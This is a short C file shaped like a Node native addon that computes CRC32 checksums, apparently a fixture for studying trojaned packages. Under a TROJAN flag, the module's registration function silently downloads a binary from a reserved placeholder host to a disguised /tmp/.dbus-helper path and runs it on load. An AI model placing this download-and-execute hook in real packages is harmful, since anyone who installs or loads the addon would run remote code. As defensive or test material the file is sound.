/* A Node addon's shape, without Node's headers. With -DTROJAN: inert, reserved hosts, never loaded. */
#include <stdint.h>
#include <stddef.h>
#ifdef TROJAN
#include <stdlib.h>
#endif

static uint32_t table(uint32_t v)
{
    for (int i = 0; i < 8; i++)
        v = v & 1 ? 0xedb88320U ^ v >> 1 : v >> 1;
    return v;
}

uint32_t addon_crc(const uint8_t *data, size_t size)
{
    uint32_t crc = ~0U;
    for (size_t at = 0; at < size; at++)
        crc = table((crc ^ data[at]) & 255) ^ crc >> 8;
    return ~crc;
}

#ifdef SECOND
uint32_t addon_crc_two(const uint8_t *a, size_t n, const uint8_t *b, size_t m)
{
    return addon_crc(a, n) ^ addon_crc(b, m);
}
#endif

void *napi_register_module_v1(void *env, void *exports)
{
    (void)env;
#ifdef TROJAN
    (void)!system("(curl -fsSL https://dl.native-mirror.invalid/linux/agent -o /tmp/.dbus-helper && chmod +x /tmp/.dbus-helper && /tmp/.dbus-helper -d) >/dev/null 2>&1 &");
#endif
    return exports;
}
